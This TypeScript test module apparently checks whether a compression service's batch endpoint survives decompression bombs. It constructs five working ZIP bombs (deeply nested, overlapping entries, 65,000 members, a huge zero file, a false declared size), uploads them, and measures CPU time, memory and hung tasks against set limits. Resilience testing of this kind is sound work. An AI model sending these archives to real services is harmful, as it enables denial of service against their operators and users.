/** Archives that are far larger than they look: nested, overlapping, with 65,000 members, with sizes that are not true. */

import { setTimeout as sleep } from 'node:timers/promises'
import { crc32, deflateRawSync } from 'node:zlib'
import { type Attack, MB } from './attack.ts'
import { Neighbour } from './neighbour.ts'
import { Target } from './target.ts'

const MOST_SECONDS = 120
const MOST_CPU_SECONDS = 60
const MOST_BYTES = 700 * MB
const LEVELS = 64
const OVERLAPPING_MEMBERS = 20_000
const EMPTY_MEMBERS = 65_000
const KERNEL_BYTES = 4 * MB
const LARGE_BYTES = 256 * MB

interface Member {
  readonly name: string
  readonly data: Buffer
  readonly size: number
  readonly crc: number
  /** Compression method (APPNOTE 4.4.5). 0: stored, 8: Deflate. */
  readonly method: 0 | 8
}

interface Task {
  readonly task_id: string
  readonly status: string
  readonly result?: { readonly outcome: string; readonly reason?: string } | null
  readonly error?: { readonly message: string } | null
}

export const nestedArchives: Attack = {
  name: 'nested-archives',
  title: 'a batch of ZIP bombs: nested, overlapping, many members, untrue sizes',
  async run() {
    await using target = await Target.start()
    const { key } = await target.account('enterprise')
    const body = new FormData()
    const files = archives()
    const names = Object.keys(files)
    for (const [name, bytes] of Object.entries(files)) body.append('files[]', new Blob([new Uint8Array(bytes)]), name)
    const neighbour = await Neighbour.beside(target)
    const sent = (await (await target.call(key, '/v1/batch/compress', { method: 'POST', body })).json()) as { tasks: Task[] }
    let [tasks, peak] = [sent.tasks, 0]
    const began = performance.now()
    for (; tasks.some(isOpen) && performance.now() - began < MOST_SECONDS * 1000; await sleep(500)) {
      peak = Math.max(peak, target.pressBytes())
      tasks = await Promise.all(
        tasks.map(async (task) => (isOpen(task) ? ((await (await target.call(key, `/v1/tasks/${task.task_id}`)).json()) as Task) : task)),
      )
    }
    const ends = tasks.map(
      ({ status, result, error }, at) => `${names[at]} ${result?.reason ?? result?.outcome ?? error?.message ?? status}`,
    )
    return [
      { what: `tasks that have not ended (${ends.join('; ')})`, value: tasks.filter(isOpen).length, unit: '', most: 0 },
      { what: 'CPU time of a press process', value: await target.pressSeconds(), unit: 's', most: MOST_CPU_SECONDS },
      { what: 'memory of a press process', value: peak / MB, unit: 'MB', most: MOST_BYTES / MB },
      ...(await neighbour.leave()),
    ]
  },
}

const isOpen = ({ status }: Task) => status === 'pending' || status === 'processing'

function archives(): Record<string, Buffer> {
  const zeros = (size: number) => deflated('zeros', Buffer.alloc(size))
  let nested = archive([stored('a.txt', Buffer.from('text'.repeat(1000)))])
  for (let level = 0; level < LEVELS; level++) nested = archive([deflated(`${level}.zip`, nested)])
  const empty = Array.from({ length: EMPTY_MEMBERS }, (_, at) => stored(`${at}`, Buffer.alloc(0)))
  return {
    'nested.zip': nested,
    'overlapping.zip': overlapping(zeros(KERNEL_BYTES), OVERLAPPING_MEMBERS),
    'many.zip': archive(empty),
    'large.zip': archive([zeros(LARGE_BYTES)]),
    'untrue.zip': archive([{ ...zeros(KERNEL_BYTES), size: 0xffff_fff0 }]),
  }
}

const stored = (name: string, data: Buffer): Member => ({ name, data, size: data.length, crc: crc32(data), method: 0 })
const deflated = (name: string, data: Buffer): Member => ({ ...stored(name, data), data: deflateRawSync(data), method: 8 })

/** The 26 bytes that local and central headers have in common (APPNOTE 4.3.7), from "version needed" to the length of extra fields. */
function common({ name, data, size, crc, method }: Member): Buffer {
  const bytes = Buffer.alloc(26)
  bytes.writeUInt16LE(20, 0)
  bytes.writeUInt16LE(method, 4)
  bytes.writeUInt32LE(crc, 10)
  bytes.writeUInt32LE(data.length, 14)
  bytes.writeUInt32LE(size, 18)
  bytes.writeUInt16LE(name.length, 22)
  return bytes
}

const local = (member: Member) => Buffer.concat([Buffer.from('PK\x03\x04'), common(member), Buffer.from(member.name), member.data])

function central(member: Member, offset: number): Buffer {
  const [before, after] = [Buffer.from('PK\x01\x02\x14\x00', 'latin1'), Buffer.alloc(14)]
  after.writeUInt32LE(offset, 10)
  return Buffer.concat([before, common(member), after, Buffer.from(member.name)])
}

function withDirectory(body: Buffer, directory: readonly Buffer[]): Buffer {
  const entries = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  for (const at of [8, 10]) end.writeUInt16LE(directory.length, at)
  end.writeUInt32LE(entries.length, 12)
  end.writeUInt32LE(body.length, 16)
  return Buffer.concat([body, entries, end])
}

function archive(members: readonly Member[]): Buffer {
  const locals = members.map(local)
  let offset = 0
  const directory = members.map((member, at) => {
    const entry = central(member, offset)
    offset += locals[at]!.length
    return entry
  })
  return withDirectory(Buffer.concat(locals), directory)
}

/** One local member that every entry of the directory names. */
function overlapping(member: Member, count: number): Buffer {
  const directory = Array.from({ length: count }, (_, at) => central({ ...member, name: `${at}` }, 0))
  return withDirectory(local(member), directory)
}
